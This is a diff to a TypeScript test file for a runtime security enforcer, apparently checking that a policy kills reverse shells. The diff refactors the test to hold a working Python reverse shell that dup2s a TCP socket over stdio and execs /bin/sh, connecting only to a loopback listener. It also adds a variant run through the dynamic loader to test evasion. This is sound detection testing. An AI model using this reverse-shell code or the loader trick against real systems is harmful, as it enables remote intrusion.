@@ -63,9 +63,9 @@ describe("policy controls in a real PID namespace", function () {
     assert.equal(attr(v!, "microenforcer.action"), "alert");
   });
 
-  it("kills a reverse shell: a shell whose stdio is a TCP socket to a listener on loopback", async () => {
+  /** The classic python reverse shell: connect to a listener on loopback, dup2 the socket over stdio, exec `path` with `argv`. */
+  async function reverseShell(path: string, argv: readonly string[]): Promise<NamespaceRun> {
     const { file } = kubeletVolume(policyYaml("enforce", "    reverseShell: {block: true}\n"));
-    // The classic python reverse shell: connect, dup2 the socket over stdio, exec a shell.
     const listener = `/usr/bin/python3 -c "import socket, time
 l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(('127.0.0.1', 0)); l.listen()
 open('$WORK/port', 'w').write(str(l.getsockname()[1]))
@@ -73,18 +73,29 @@ c, _ = l.accept(); time.sleep(6)" &`;
     const shell = `/usr/bin/python3 -c "import os, socket
 s = socket.create_connection(('127.0.0.1', int(open('$WORK/port').read())))
 [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
-os.execv('/bin/sh', ['sh', '-c', 'sleep 5; echo survived > $WORK/out'])"`;
-    const run = await runInPidNamespace(`${listener}\nuntil [ -s $WORK/port ]; do sleep 0.01; done\n${shell}\necho "status=$?"; kill %1`, {
+os.execv('${path}', ${JSON.stringify(argv).replaceAll('"', "'")})"`;
+    return runInPidNamespace(`${listener}\nuntil [ -s $WORK/port ]; do sleep 0.01; done\n${shell}\necho "status=$?"; kill %1`, {
       watchArgs: ["--policy", file],
     });
-    const seen = JSON.stringify(violations(run).map((r) => [r.body, attr(r, "microenforcer.action")]));
-    assert.match(run.workloadLog, /status=137/, seen);
-    const [v] = violations(run);
-    assert.ok(v);
-    assert.equal(attr(v, "microenforcer.control"), "reverseShell");
-    assert.equal(attr(v, "microenforcer.action"), "killed");
-    assert.match(v.body, /stdin, stdout, stderr connected to tcp\/127\.0\.0\.1:\d+/);
-  });
+  }
+
+  const loader = process.arch === "arm64" ? "/lib/ld-linux-aarch64.so.1" : "/lib64/ld-linux-x86-64.so.2";
+  for (const [how, argv] of [
+    ["", ["/bin/sh", "sh", "-c", "sleep 5; echo survived > $WORK/out"]],
+    [" run through the dynamic loader", [loader, "ld.so", "/bin/sh", "-c", "sleep 5; echo survived > $WORK/out"]],
+  ] as const) {
+    it(`kills a reverse shell${how}: a shell whose stdio is a TCP socket to a listener on loopback`, async () => {
+      const [path, ...args] = argv;
+      const run = await reverseShell(path, args);
+      const seen = JSON.stringify(violations(run).map((r) => [r.body, attr(r, "microenforcer.action")]));
+      assert.match(run.workloadLog, /status=137/, seen);
+      const [v] = violations(run);
+      assert.ok(v);
+      assert.equal(attr(v, "microenforcer.control"), "reverseShell");
+      assert.equal(attr(v, "microenforcer.action"), "killed");
+      assert.match(v.body, /stdin, stdout, stderr connected to tcp\/127\.0\.0\.1:\d+/);
+    });
+  }
 
   it("catches a shell that redirects its own stdio to a socket after it started", async () => {
     const { file } = kubeletVolume(policyYaml("enforce", "    reverseShell: {block: true}\n"));
